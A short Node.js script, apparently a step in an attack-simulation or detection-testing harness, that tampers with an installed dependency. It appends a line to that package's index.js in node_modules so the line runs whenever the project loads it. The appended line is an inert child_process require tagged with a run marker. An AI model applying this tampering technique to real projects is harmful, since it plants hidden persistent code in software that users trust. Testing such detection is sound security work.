'use strict';
// Trojanise another installed package: append code to a dependency the project already
// trusts, so it runs whenever the project requires it.
const fs = require('fs');
const path = require('path');
const lib = require('./lib.js');

lib.run(async () => {
  const victim = path.join(lib.projectRoot(), 'node_modules', lib.cfg.params.dependency, 'index.js');
  fs.appendFileSync(victim, `\n;require('child_process'); // sp-persist-${lib.cfg.runTag}\n`);
  lib.did('wrote');
});
